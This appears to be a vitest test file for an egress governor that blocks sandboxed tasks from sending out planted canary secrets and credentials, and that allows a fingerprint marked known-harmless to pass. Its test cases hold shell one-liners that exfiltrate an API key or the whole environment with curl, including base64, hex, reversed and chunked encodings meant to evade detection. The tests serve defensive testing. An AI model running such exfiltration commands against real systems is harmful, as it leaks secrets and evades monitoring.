// What the gate of a whole governor makes of what a task should not send: a canary that was planted for it, and a finding that
// the spec calls harmless by the fingerprint that a scan of this home prints.
import { randomBytes } from "node:crypto";
import { copyFileSync, createReadStream, writeFileSync } from "node:fs";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { openUpstream, type Upstream } from "../../test/enforce/upstream.ts";
import { type MadeHome, makeHome, type Ran, run, taskOf } from "./fixtures/made-home.ts";
import { homePaths } from "./home.ts";
import { createBlockScanner } from "./scanning/content-scanner.ts";
import { fingerprintsUnder, knownFinders } from "./scanning/enrolled-values.ts";
import { valuesOfHome } from "./scanning/home-values.ts";
import { scanSource } from "./scanning/scan-source.ts";
import { tailHome } from "./tail-home.ts";

let upstream: Upstream;
const homes: MadeHome[] = [];
beforeAll(async () => {
  upstream = await openUpstream();
});
afterAll(() => upstream.close());

async function endHomes(): Promise<void> {
  for (const made of homes.splice(0)) await made.end();
}

async function made(detectors: string): Promise<MadeHome> {
  const endpoints = upstream.endpoints({
    control: "contracted",
    methods: ["POST"],
    requests_per_task_max: 50,
  });
  const home = await makeHome({
    endpoints,
    privacy: `  detectors: ${detectors}`,
  });
  homes.push(home);
  return home;
}

/** Runs a shell script that may send to `$URL`. */
async function send(home: MadeHome, script: string): Promise<Ran> {
  const url = `https://${upstream.host}:${upstream.port}/v1/thing`;
  const needs = { calls: [{ to: url, method: "POST", calls_max: 40, bytes_out_max: "128 KiB" }] };
  const governor = await home.open();
  return run(governor, taskOf(home, ["sh", "-c", `URL=${url}; ${script}`], needs));
}

const POST = "curl -sS -H 'content-type: text/plain' --data-binary @- $URL";

/** What became of what was sent, from the record of this number on. */
async function causes(home: MadeHome, from = 0): Promise<readonly unknown[]> {
  const { records } = await tailHome(home.home, 1000);
  return records
    .filter(({ kind, sequence }) => kind === "egress" && sequence >= from)
    .map(({ core }) => core["cause"] ?? "sent");
}

describe("a canary", () => {
  let home: MadeHome;
  // One home for all of them: each task has a canary of its own.
  beforeAll(async () => {
    home = await made("{ credentials: count, opaque: count }");
  });
  afterAll(endHomes);

  test.each([
    ["as it is", `printf 'key %s' "$BACKUP_API_KEY" | ${POST}`],
    ["with all of the environment", `env | ${POST}`],
    ["in base64", `printf %s "$BACKUP_API_KEY" | base64 -w0 | ${POST}`],
    ["packed, in hexadecimal", `printf %s "$BACKUP_API_KEY" | gzip | od -An -tx1 | tr -d ' \\n' | ${POST}`],
    ["reversed, in a query", `curl -sS -X POST "$URL?q=$(printf %s "$BACKUP_API_KEY" | rev)"`],
    [
      "in pieces over requests",
      `k=$BACKUP_API_KEY; while [ -n "$k" ]; do printf '{"part":"%.4s"}' "$k" | curl -sS -H 'content-type: application/json' --data-binary @- $URL; k=$(printf %s "$k" | cut -c5-); done`,
    ],
  ])("on its way out %s is refused, recorded, and the end of what the task sends", async (_how, script) => {
    const { records } = await (await home.open()).status();
    const ran = await send(home, `echo before | ${POST}; ${script}; echo after | ${POST}`);
    expect(ran.observation?.exit_code).toBe(0);
    const told = await causes(home, records);
    expect(told[0]).toBe("sent");
    expect(told.slice(-2).includes("canary_found")).toBe(true);
    expect(told.at(-1)).toBe("canary_found");
    expect(ran.stdout).toContain("BACKUP_API_KEY");
    // Another task has another, and may send.
    const next = await send(home, `echo next | ${POST}`);
    expect((await causes(home)).at(-1)).toBe("sent");
    expect(next.stdout).toContain("next");
  });

  test("is each task's own where the gate looks into what it sends, and no other task has one", async () => {
    const [one, two] = [await send(home, "echo $BACKUP_API_KEY"), await send(home, "echo $BACKUP_API_KEY")];
    for (const { stdout } of [one, two]) expect(stdout.trim()).toMatch(/^[a-z]+[-_][-A-Za-z0-9]{40,}$/);
    expect(one.stdout).not.toBe(two.stdout);
    const plain = await run(await home.open(), taskOf(home, ["sh", "-c", "echo =$BACKUP_API_KEY="]));
    expect(plain.stdout).toBe("==\n");
  });
});

describe("known_harmless", () => {
  afterEach(endHomes);

  test("by the fingerprint that a scan of the home prints lets it pass, there alone", async () => {
    const token = `API_TOKEN=${randomBytes(24).toString("hex")}`;
    const first = await made("{ credentials: refuse, opaque: count }");
    const sent = async (home: MadeHome): Promise<readonly unknown[]> => {
      writeFileSync(`${home.work}/token.txt`, `${token}\n`);
      await send(home, `cat token.txt | ${POST}`);
      return causes(home);
    };
    expect(await sent(first)).toEqual(["credential_found"]);
    const values = await valuesOfHome(first.home);
    const prints: string[] = [];
    const file = createReadStream(`${first.work}/token.txt`);
    await scanSource(file, createBlockScanner(knownFinders(values)), {
      isTable: false,
      found: ({ class: of, fingerprint }) => {
        if (of === "credential" && fingerprint !== null) prints.push(fingerprint);
      },
      isOver: () => false,
      fingerprint: fingerprintsUnder(values),
    });
    expect(prints).toHaveLength(1);
    const spec = `{ credentials: refuse, opaque: count, known_harmless: ["${prints[0] ?? ""}"] }`;
    const [same, other] = [await made(spec), await made(spec)];
    copyFileSync(homePaths(first.home).protect_key, homePaths(same.home).protect_key);
    expect(await sent(same)).toEqual(["sent"]);
    expect(await sent(other)).toEqual(["credential_found"]);
    // In a task's words it is as harmless.
    const words = async (home: MadeHome): Promise<string> => {
      const governor = await home.open();
      return (await governor.check(taskOf(home, ["echo", token]))).decision.outcome;
    };
    expect([await words(same), await words(other)]).toEqual(["admit", "refuse"]);
  });
});
